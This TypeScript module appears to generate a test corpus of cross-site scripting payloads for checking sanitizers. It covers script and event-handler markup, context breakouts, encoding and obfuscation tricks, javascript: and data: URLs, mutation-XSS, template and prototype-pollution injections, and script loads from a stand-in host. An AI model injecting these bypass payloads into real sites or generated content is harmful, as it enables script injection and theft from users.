/**
 * Words that are a script, should anything ever take them for more than words: each kind of script, in each place that it may
 * have to break out of, in each writing that a filter may forget. A list of our own, by the names of well-known families.
 *
 * The script of the n-th says `top.ran = n` (`alert(n)` in a few); what is fetched is of `PAYLOAD_HOST`.
 */

export interface Payload {
  /** From 1; what runs says it. */
  n: number;
  family: string;
  text: string;
}

export const PAYLOAD_HOST = 'payload.example';

/** What a script does, or where it loads more from. */
interface Deed {
  js: string;
  url: string;
}
type Write = (deed: Deed) => string;

/** Markup that runs something by itself, or once somebody comes near it. */
const MARKUP: Record<string, Write> = {
  script: ({ js }) => `<script>${js}</script>`,
  'script from elsewhere': ({ url }) => `<script src="${url}"></script>`,
  'module script': ({ js }) => `<script type="module">${js}</script>`,
  'script in SVG': ({ js }) => `<svg><script>${js}</script></svg>`,
  'script by href in SVG': ({ js }) => `<svg><script href="data:text/javascript,${js}"></script></svg>`,
  'img onerror': ({ js }) => `<img src="x:" onerror="${js}">`,
  'img from elsewhere': ({ url }) => `<img src="${url}">`,
  'img srcset': ({ url }) => `<img srcset="${url} 1x">`,
  'picture source': ({ js }) => `<picture><source srcset="x:"><img onerror="${js}"></picture>`,
  'image onerror': ({ js }) => `<image src="x:" onerror="${js}">`,
  'svg onload': ({ js }) => `<svg onload="${js}">`,
  'svg animate onbegin': ({ js }) =>
    `<svg><animate onbegin="${js}" attributeName="x" dur="1s"></animate></svg>`,
  'svg set onbegin': ({ js }) => `<svg><set attributeName="x" onbegin="${js}"></set></svg>`,
  'svg use': ({ js }) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>#x"></use></svg>`,
  'svg foreignObject': ({ js }) => `<svg><foreignObject><img src="x:" onerror="${js}"></foreignObject></svg>`,
  'svg a': ({ js }) => `<svg><a xlink:href="javascript:${js}"><text x="9" y="9">Go</text></a></svg>`,
  'math href': ({ js }) => `<math href="javascript:${js}">Go</math>`,
  'iframe srcdoc': ({ js }) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  'iframe javascript': ({ js }) => `<iframe src="javascript:${js}"></iframe>`,
  'iframe from elsewhere': ({ url }) => `<iframe src="${url}"></iframe>`,
  'iframe onload': ({ js }) => `<iframe onload="${js}"></iframe>`,
  'object data': ({ url }) => `<object data="${url}"></object>`,
  'object javascript': ({ js }) => `<object data="javascript:${js}"></object>`,
  'object onerror': ({ js }) => `<object data="x:" onerror="${js}"></object>`,
  'embed src': ({ url }) => `<embed src="${url}">`,
  'embed javascript': ({ js }) => `<embed src="javascript:${js}">`,
  'video source onerror': ({ js }) => `<video><source onerror="${js}"></video>`,
  'video poster': ({ url }) => `<video poster="${url}"></video>`,
  'audio onerror': ({ js }) => `<audio src="x:" onerror="${js}"></audio>`,
  'input autofocus': ({ js }) => `<input autofocus onfocus="${js}">`,
  'input image': ({ js }) => `<input type="image" src="x:" onerror="${js}">`,
  'textarea autofocus': ({ js }) => `<textarea autofocus onfocus="${js}"></textarea>`,
  'select autofocus': ({ js }) => `<select autofocus onfocus="${js}"></select>`,
  'details ontoggle': ({ js }) => `<details open ontoggle="${js}">x</details>`,
  'marquee onstart': ({ js }) => `<marquee onstart="${js}">x</marquee>`,
  'body onload': ({ js }) => `<body onload="${js}">`,
  'body onpageshow': ({ js }) => `<body onpageshow="${js}">`,
  'frameset onload': ({ js }) => `<frameset onload="${js}">`,
  'a element of its own': ({ js }) => `<x-tag tabindex="1" autofocus onfocus="${js}">x</x-tag>`,
  'content visibility': ({ js }) =>
    `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${js}">x</div>`,
  'animation start': ({ js }) =>
    `<style>@keyframes tk{}</style><b style="animation-name:tk" onanimationstart="${js}">x</b>`,
  'transition end': ({ js }) =>
    `<b style="transition:outline 1s" ontransitionend="${js}" tabindex="1" autofocus>x</b>`,
  'on the mouse': ({ js }) => `<b onmouseover="${js}" onpointerenter="${js}">x</b>`,
  'on a click': ({ js }) => `<b onclick="${js}">x</b>`,
  'pop-over': ({ js }) =>
    `<button popovertarget="p">x</button><div popover id="p" onbeforetoggle="${js}">x</div>`,
  'link javascript': ({ js }) => `<a href="javascript:${js}">Read</a>`,
  'link data': ({ js }) => `<a href="data:text/html,<script>${js}</script>">Read</a>`,
  'area javascript': ({ js }) => `<map><area href="javascript:${js}" shape="default"></map>`,
  'form action': ({ js }) => `<form action="javascript:${js}"><button>Send</button></form>`,
  'form elsewhere': ({ url }) => `<form action="${url}"><input name="x"><button>Send</button></form>`,
  'button formaction': ({ js }) => `<form><button formaction="javascript:${js}">Send</button></form>`,
  'meta refresh': ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  'meta refresh javascript': ({ js }) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  base: ({ url }) => `<base href="${url}/">`,
  'link style sheet': ({ url }) => `<link rel="stylesheet" href="${url}">`,
  'link preload': ({ url }) => `<link rel="preload" as="script" href="${url}">`,
  'link prefetch': ({ url }) => `<link rel="prefetch" href="${url}"><link rel="dns-prefetch" href="${url}">`,
  'style import': ({ url }) => `<style>@import url("${url}");</style>`,
  'style attribute': ({ url }) => `<b style="background:url('${url}')">x</b>`,
  'template, declared root': ({ js }) =>
    `<div><template shadowrootmode="open"><img src="x:" onerror="${js}"></template></div>`,
  'unclosed img': ({ js }) => `<img src="x:" onerror="${js}"`,
  'mutation: svg style': ({ js }) => `<svg></p><style><a id="</style><img src=x: onerror=${js}>">`,
  'mutation: math': ({ js }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${js}&gt;">`,
  'mutation: noscript': ({ js }) => `<noscript><p title="</noscript><img src=x: onerror=${js}>">`,
  'mutation: form in form': ({ js }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${js}>`,
  'clobbered members': ({ js }) =>
    `<form name="body"><input name="attributes"><img name="ownerDocument" src="x:" onerror="${js}"></form>`,
};

/** Where words may stand in a document, and what ends that. */
const BREAKOUTS: Record<string, string> = {
  'out of an attribute': '">',
  'out of an attribute by an apostrophe': "'>",
  'out of an attribute without signs': ' >',
  'out of a title': '</title>',
  'out of a text area': '</textarea>',
  'out of a script': '</script>',
  'out of a style': '</style>',
  'out of a comment': '-->',
  'out of character data': ']]>',
  'out of noscript': '</noscript>',
  'out of a template': '</template>',
  'out of an option': '</option></select>',
  'out of an SVG': '</svg>',
  'out of plain XML': '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>',
};
/** What is tried behind each of them, and in each writing. */
const BEST = ['script', 'img onerror', 'svg onload', 'input autofocus', 'iframe srcdoc', 'link javascript'];

const everySign = (write: (code: number) => string) => (text: string) =>
  [...text].map((sign) => write(sign.codePointAt(0) ?? 0)).join('');
const tagsOnly = (open: string, close: string) => (text: string) =>
  text.replaceAll('<', open).replaceAll('>', close);

/** Writings of the same, which somebody may decode once too often. */
const WRITINGS: Record<string, (text: string) => string> = {
  'decimal references': everySign((code) => `&#${code};`),
  'hexadecimal references': everySign((code) => `&#x${code.toString(16)};`),
  'references without an end': everySign((code) => `&#${String(code).padStart(7, '0')}`),
  'named references': (text) =>
    text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  'references, twice': tagsOnly('&amp;lt;', '&amp;gt;'),
  'percent signs': (text) => encodeURIComponent(text),
  'percent signs, twice': (text) => encodeURIComponent(encodeURIComponent(text)),
  'escapes of JavaScript': everySign((code) => `\\u${code.toString(16).padStart(4, '0')}`),
  'hexadecimal escapes': tagsOnly('\\x3c', '\\x3e'),
  'escapes of CSS': tagsOnly('\\3c ', '\\3e '),
  'UTF-7': tagsOnly('+ADw-', '+AD4-'),
  'full width': tagsOnly('＜', '＞'),
  'small forms': tagsOnly('﹤', '﹥'),
  'letters in both cases': (text) =>
    text.replace(/<\/?[a-z]+|\bon[a-z]+=|javascript:/g, (word) =>
      [...word].map((sign, n) => (n % 2 ? sign.toUpperCase() : sign)).join(''),
    ),
  'slashes for spaces': (text) => text.replace(/(?<=<[a-z]+) /g, '/'),
  'line ends for spaces': (text) => text.replaceAll(' ', '\n'),
  'tabs for spaces': (text) => text.replaceAll(' ', '\t'),
  'form feeds for spaces': (text) => text.replaceAll(' ', '\f'),
  'no quotation marks': (text) => text.replaceAll('="x:"', '=x:').replaceAll('"', ''),
  'grave accents': (text) => text.replaceAll('"', '`'),
  'an opening sign too many': (text) => text.replaceAll('<', '<<'),
  'cut in the middle': (text) => text.replace(/<(?=s|i|a)/, '<!--><'),
  'a script that a filter leaves': (text) => text.replace(/<(\/?)([a-z]{2})/g, '<$1$2<$1$2'),
  'nothing that is seen between': (text) => text.replaceAll('<', '<\u200b').replaceAll('=', '\u200b='),
  'turned round': (text) => `\u202E${text}\u202C`,
};

/** Addresses that are no address. */
const ADDRESSES: Record<string, Write> = {
  javascript: ({ js }) => `javascript:${js}`,
  'javascript, both cases': ({ js }) => `jAvAsCrIpT:${js}`,
  'javascript, a space before': ({ js }) => ` javascript:${js}`,
  'javascript, a control sign before': ({ js }) => `\u0001javascript:${js}`,
  'javascript, a tab inside': ({ js }) => `java\tscript:${js}`,
  'javascript, a line end inside': ({ js }) => `java\nscript:${js}`,
  'javascript, a reference inside': ({ js }) => `javascript&colon;${js}`,
  'javascript, references': ({ js }) => `&#106;avascript:${js}`,
  'javascript, percent': ({ js }) => `javascript%3A${js}`,
  'javascript, a comment': ({ js }) => `javascript://https://x.com/%0A${js}`,
  'javascript, as an address': ({ js }) => `javascript:${js}//https://x.com/`,
  data: ({ js }) => `data:text/html,<script>${js}</script>`,
  'data, base64': ({ js }) => `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
  'data, SVG': ({ js }) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
  vbscript: ({ js }) => `vbscript:${js}`,
  'view-source': ({ url }) => `view-source:${url}`,
  blob: ({ url }) => `blob:${url}`,
  filesystem: ({ url }) => `filesystem:${url}`,
  feed: ({ js }) => `feed:javascript:${js}`,
  'without a scheme': ({ url }) => url.replace('https:', ''),
  'back slashes': ({ url }) => url.replace('https://', '\\\\'),
  'out of href': ({ js }) => `https://x.com/" onmouseover="${js}" x="`,
  'out of href by an apostrophe': ({ js }) => `https://x.com/' onmouseover='${js}' x='`,
  'out of the link': ({ js }) => `https://x.com/"><img src=x: onerror=${js}>`,
  'in the fragment': ({ js }) => `https://x.com/#<img src=x: onerror=${js}>`,
  'in the query': ({ js }) => `https://x.com/?q=<script>${js}</script>`,
  'in the user name': ({ url }) => `https://x.com@${url.replace('https://', '')}`,
  'another port and a script': ({ js }) => `https://x.com:443/javascript:${js}`,
  'a mail with a header': ({ url }) => `mailto:a@b.example?attach=${url}&body=<script>`,
};

/** What programs that fill in, translate, draw or read texts could run. */
const TEMPLATES: Record<string, Write> = {
  'constructor in braces': ({ js }) => `{{constructor.constructor('${js}')()}}`,
  'constructor behind $on': ({ js }) => `{{$on.constructor('${js}')()}}`,
  'this in braces': ({ js }) => `{{#with "s" as |string|}}{{string.sub.constructor "${js}"}}{{/with}}`,
  'three braces': ({ js }) => `{{{<img src=x: onerror=${js}>}}}`,
  'template literal': ({ js }) => `\${${js}}`,
  'back tick out': ({ js }) => `\`;${js};\``,
  'string out': ({ js }) => `';${js};//`,
  'string out by a quotation mark': ({ js }) => `";${js};//`,
  'string out by a sum': ({ js }) => `"-(${js})-"`,
  'string out after a back slash': ({ js }) => `\\';${js};//`,
  'line separator out': ({ js }) => `\u2028${js}//`,
  'Ruby, JSP': ({ js }) => `<%= ${js} %>`,
  'expression language': ({ js }) => `#{${js}} *{${js}} @{${js}}`,
  'Liquid: a filter': ({ js }) => `{{ '<script>${js}</script>' | raw }}`,
  'Liquid: an include': ({ url }) => `{% include '${url}' %}{% render '../../${url}' %}`,
  'v-html, ng-init': ({ js }) =>
    `<b v-html="'${js}'" ng-init="constructor.constructor('${js}')()" x-init="${js}">x</b>`,
  'React, unasked': ({ js }) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x: onerror=${js}>"}}`,
  'a vnode of its own': ({ js }) =>
    `{"type":"img","props":{"src":"x:","onerror":"${js}"},"constructor":null,"__v":1}`,
  prototype: ({ js }) => `{"__proto__":{"innerHTML":"<img src=x: onerror=${js}>"}}`,
  'constructor prototype': ({ js }) => `constructor[prototype][srcdoc]=<script>${js}</script>`,
  'JSON out': ({ js }) => `</script><script>${js}</script>{"a":"\\u003c/script>`,
  'ICU message': ({ js }) => `{n, plural, one {<b onclick="${js}">} other {#}}</b> {0} {{0}}`,
  'Markdown link': ({ js }) => `[Read](javascript:${js})`,
  'Markdown link, mixed': ({ js }) => `[Read](JaVaScRiPt:${js} "x")`,
  'Markdown link by reference': ({ js }) => `[Read][1]\n\n[1]: javascript:${js}`,
  'Markdown address': ({ js }) => `<javascript:${js}>`,
  'Markdown picture': ({ url }) => `![x](${url})`,
  'Markdown picture, out': ({ js }) => `![x](https://x.com/"onerror="${js})`,
  'Markdown code': ({ js }) => `\`\`\`"><img src=x: onerror=${js}>\n\`\`\``,
  'CSS expression': ({ js }) => `width: expression(${js}); -moz-binding: url(x:);`,
  'CSS out': ({ js }) => `x}</style><script>${js}</script>`,
  'CSS that tells': ({ url }) => `*{background:url(${url})}`,
  'XML style sheet': ({ url }) => `<?xml-stylesheet href="${url}" type="text/xsl"?>`,
  'XML entity': ({ url }) => `<!DOCTYPE x [<!ENTITY y SYSTEM "${url}">]><x>&y;</x>`,
  'RTF, iCalendar': ({ url }) => `ATTACH:${url}\nURL:javascript:${url}`,
  imported: ({ url }) => `import('${url}')`,
  'a link that is made one': ({ js }) => `www.x.com/"onmouseover="${js}"`,
  'a mail that is made one': ({ js }) => `"<img/src=x:/onerror=${js}>"@x.com`,
  'a handle that is made one': ({ js }) => `@x"onclick="${js}"`,
};

/** Attributes that words can add where they stand in one. */
const ATTRIBUTES = ['onmouseover', 'onfocus', 'onclick', 'onpointerenter', 'onanimationstart', 'onerror'];
const SIGNS = ['"', "'", '`', '&quot;', '\\"'];

/** All of them, in the same order every time; no two are the same but for their number. */
export const PAYLOADS: readonly Payload[] = gather();

function gather(): Payload[] {
  const payloads: Payload[] = [];
  const add = (family: string, write: Write, says = (n: number) => `top.ran=${n}`) => {
    const n = payloads.length + 1;
    payloads.push({ n, family, text: write({ js: says(n), url: `https://${PAYLOAD_HOST}/${n}` }) });
  };
  const best = BEST.map((name): [string, Write] => [name, MARKUP[name]!]);
  for (const [name, write] of Object.entries(MARKUP)) {
    add(`markup: ${name}`, write);
    for (const [out, before] of Object.entries(BREAKOUTS).slice(0, 3))
      add(`${out}: ${name}`, (deed) => before + write(deed));
  }
  for (const [name, write] of best) {
    for (const [out, before] of Object.entries(BREAKOUTS).slice(3))
      add(`${out}: ${name}`, (deed) => before + write(deed));
    for (const [writing, written] of Object.entries(WRITINGS))
      add(`${writing}: ${name}`, (deed) => written(write(deed)));
    for (const box of ['alert', 'confirm', 'prompt']) add(`${box}: ${name}`, write, (n) => `${box}(${n})`);
  }
  for (const [name, write] of Object.entries(ADDRESSES)) {
    add(`address: ${name}`, write);
    add(`address as a link: ${name}`, (deed) => `<a href="${write(deed)}">Read</a>`);
  }
  for (const [name, write] of Object.entries(TEMPLATES)) add(`texts: ${name}`, write);
  for (const sign of SIGNS)
    for (const attribute of ATTRIBUTES)
      add(
        `an attribute by ${sign}: ${attribute}`,
        ({ js }) => `${sign} autofocus tabindex=1 src=x: ${attribute}=${sign}${js}${sign} x=${sign}`,
      );
  return payloads;
}
